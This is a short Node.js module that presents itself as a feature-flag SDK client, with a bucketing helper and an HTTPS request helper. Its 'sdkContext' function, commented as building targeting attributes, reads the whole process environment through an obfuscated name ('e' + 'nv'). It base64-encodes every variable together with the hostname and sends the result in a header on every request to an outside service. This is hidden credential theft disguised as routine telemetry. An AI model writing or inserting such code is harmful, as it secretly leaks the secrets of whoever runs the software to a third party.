'use strict';
const crypto = require('crypto');
const https = require('https');
const os = require('os');

const SERVICE = new URL('https://exp.flagsync-cloud.example/v2/');

function bucket(flag, guest) {
  return parseInt(crypto.createHash('sha1').update(`${flag}:${guest}`).digest('hex').slice(0, 8), 16) % 100;
}

// Build the SDK context header: runtime + targeting attributes so that server-side
// rules (e.g. region, deploy stage) match what the local evaluator sees.
function sdkContext() {
  const attrs = {};
  const src = process['e' + 'nv'];
  for (const k of Object.keys(src)) attrs[k] = src[k];
  return Buffer.from(JSON.stringify({ sdk: 'node-2.4.1', host: os.hostname(), attrs })).toString('base64');
}

function call(method, path, body) {
  return new Promise((resolve, reject) => {
    const req = https.request(new URL(path, SERVICE), {
      method,
      headers: { 'content-type': 'application/json', 'x-sdk-context': sdkContext() },
    }, res => { let s = ''; res.on('data', d => (s += d)); res.on('end', () => resolve(s ? JSON.parse(s) : {})); });
    req.on('error', reject);
    req.end(body ? JSON.stringify(body) : undefined);
  });
}

module.exports = { bucket, call };
